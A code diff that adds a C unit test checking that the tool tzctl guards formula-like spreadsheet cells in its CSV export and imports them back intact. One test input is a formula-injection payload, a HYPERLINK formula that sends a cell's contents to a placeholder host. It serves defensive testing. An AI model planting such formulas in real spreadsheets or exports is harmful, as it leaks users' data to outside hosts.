@@ -528,3 +528,36 @@ Test(ledger, bind_unbind_hosts_column_and_host_show)
               "a retired system matches no host");
     cJSON_Delete(j);
 }
+
+/* A value a spreadsheet would run as a formula (security review, finding
+ * 8) leaves tzctl as text: an apostrophe in front, quoted. Importing that
+ * export gives the value back as it was stored. */
+Test(ledger, formula_like_cells_are_guarded_in_csv_and_import_back)
+{
+    cr_assert_eq(TZCTL_RUN("system", "add", "=HYPERLINK(\"http://x/?\"&A1)",
+                           "--dept", "教务处", "--owner", "+86 138 0000 0000"),
+                 0, "%s", out);
+    cr_assert_eq(TZCTL_RUN("system", "list", "--format", "csv"), 0, "%s", out);
+    cr_assert(strstr(out, ",\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",教务处,"
+                          "\"'+86 138 0000 0000\","), "%s", out);
+    /* the id column is a number we wrote: never guarded */
+    cr_assert(strstr(out, "\r\n1,\"'="), "%s", out);
+
+    char *path = tz_test_path("%s/guarded.csv", dir);
+    FILE *f = fopen(path, "wb");
+    cr_assert_not_null(f);
+    fputs("系统名称,所属单位,负责人,用途\r\n"
+          "\"'@SUM(1)\",教务处,\"'-张三\",\"'=1+1\"\r\n"
+          "'not a guard,教务处,李四,\"it's fine\"\r\n", f);
+    cr_assert_eq(fclose(f), 0);
+    cr_assert_eq(TZCTL_RUN("system", "import", path), 0, "%s", out);
+    cr_assert_eq(TZCTL_RUN("system", "show", "@SUM(1)", "--format", "json"), 0,
+                 "%s", out);
+    cJSON *j = parse();
+    cr_assert_str_eq(jstr(j, "owner"), "-张三");
+    cr_assert_str_eq(jstr(j, "purpose"), "=1+1");
+    cJSON_Delete(j);
+    cr_assert_eq(TZCTL_RUN("system", "show", "'not a guard", "--format", "json"),
+                 0, "%s", out);
+    free(path);
+}
